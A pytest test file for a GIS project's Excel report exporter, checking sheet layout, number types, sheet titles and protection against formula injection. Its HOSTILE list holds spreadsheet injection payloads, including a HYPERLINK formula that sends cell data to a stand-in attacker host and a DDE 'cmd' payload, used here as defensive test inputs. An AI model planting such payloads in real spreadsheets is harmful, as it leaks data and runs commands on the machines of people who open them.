"""XLSX report: sheets for non-GIS readers, and no cell that a hostile value could turn into a formula."""
from __future__ import annotations

import zipfile

import geopandas as gpd
import pandas as pd
import pytest
import shapely
from openpyxl import load_workbook

from exporters.xlsx import sheet_title, write_xlsx
from loaders.features import COLUMNS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1, "Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _features(names, attributes="{}") -> gpd.GeoDataFrame:
    frame = pd.DataFrame({c: [None] * len(names) for c in COLUMNS})
    frame["feature_id"] = [f"f{i}" for i in range(len(names))]
    frame["name"] = names
    frame["layer"] = "hubs"
    frame["status"] = "existing"
    frame["attributes"] = attributes
    geometry = [shapely.Point(-8.57 - i / 100, 53.9) for i in range(len(names))]
    return gpd.GeoDataFrame(frame.astype(object), geometry=gpd.GeoSeries(geometry, crs="EPSG:4326"))


def _cells(path):
    book = load_workbook(path)
    return [(sheet.title, cell) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_formula_like_text_is_stored_as_quoted_text(tmp_path):
    features = _features(HOSTILE, attributes='{"Notes": "=1+2", "Ref": "@A1"}')
    path = write_xlsx(features, tmp_path / "report.xlsx", about=[("Region", "=cmd()")])
    cells = _cells(path)
    assert not [c.coordinate for _, c in cells if c.data_type == "f"]
    # XML turns a stored carriage return into a line feed when the file is read back.
    hostile = [c for _, c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\n"))]
    values = {c.value for c in hostile}
    assert {h.replace("\r", "\n") for h in HOSTILE} <= values and {"=1+2", "@A1", "=cmd()"} <= values
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
    # And in the file itself: no <f> (formula) element anywhere.
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_numbers_stay_numbers(tmp_path):
    path = write_xlsx(_features(["Westport hub"]), tmp_path / "report.xlsx")
    sheet = load_workbook(path)["Hubs & Infrastructure"]
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2])}
    assert row["longitude"].value == pytest.approx(-8.57) and row["longitude"].data_type == "n"
    assert not row["longitude"].quotePrefix


def test_report_has_about_layer_and_analysis_sheets(tmp_path):
    features = pd.concat([_features(["Łódź Art Center"]), _features(["Borås course"])], ignore_index=True)
    features.loc[1, ["layer", "feature_id", "status"]] = ["training", "t1", "planned"]
    features.loc[0, "attributes"] = '{"County": "Mayo", "floor_m2": 420}'
    analysis = {
        "coverage_summary": pd.DataFrame({"layer": ["hubs"], "coverage_share": [0.61]}),
        "uncovered_settlements": gpd.GeoDataFrame({"name": ["Belmullet"], "population": [1019]},
                                                  geometry=[shapely.Point(-9.99, 54.22)], crs="EPSG:4326"),
        "suggested_sites": gpd.GeoDataFrame({"rank": [1], "name": ["Boyle"]}, geometry=[shapely.Point(-8.3, 53.97)],
                                            crs="EPSG:4326"),
        "gap_areas": gpd.GeoDataFrame({"layer": ["hubs"], "area_km2": [120.5]}, geometry=[shapely.box(0, 0, 1, 1)],
                                      crs="EPSG:4326"),
        "comparison": pd.DataFrame({"region_id": ["west-ireland", "lodz"], "population": [100, 200]}),
        "h3_grid": gpd.GeoDataFrame({"h3": ["87"]}, geometry=[shapely.box(0, 0, 1, 1)], crs="EPSG:4326"),
    }
    path = write_xlsx(features, tmp_path / "report.xlsx", analysis=analysis,
                      about=[("Region", "West of Ireland (west-ireland)")], notes=["settlement points only"])
    book = load_workbook(path)
    assert book.sheetnames == ["About", "Hubs & Infrastructure", "Training & Supports", "Coverage",
                               "Uncovered towns", "Suggested sites", "Gap areas", "Comparison"]
    about = {row[0]: row[1] for row in book["About"].iter_rows(min_row=3, values_only=True)}
    assert about["Region"] == "West of Ireland (west-ireland)"
    assert about["Creative Industries Hubs & Infrastructure"] == "1 existing, 0 planned"
    assert about["Creative Industries Training & Supports"] == "0 existing, 1 planned"
    assert about["Note"] == "settlement points only"
    hubs = list(book["Hubs & Infrastructure"].iter_rows(values_only=True))
    assert hubs[0][:3] == ("name", "kind", "status") and hubs[0][-2:] == ("County", "floor_m2")
    assert hubs[1][0] == "Łódź Art Center" and hubs[1][-2:] == ("Mayo", 420)
    uncovered = list(book["Uncovered towns"].iter_rows(values_only=True))
    assert uncovered == [("name", "population", "latitude", "longitude"), ("Belmullet", 1019, 54.22, -9.99)]
    assert list(book["Gap areas"].iter_rows(values_only=True)) == [("layer", "area_km2"), ("hubs", 120.5)]


def test_sheet_titles_are_valid_and_unique():
    taken: set[str] = set()
    assert sheet_title("Hubs/Infra: [draft]?", taken) == "Hubs Infra   draft"
    assert sheet_title("A" * 40, taken) == "A" * 31
    assert sheet_title("a" * 40, taken) == "a" * 27 + " (2)"  # Excel titles are case-insensitive
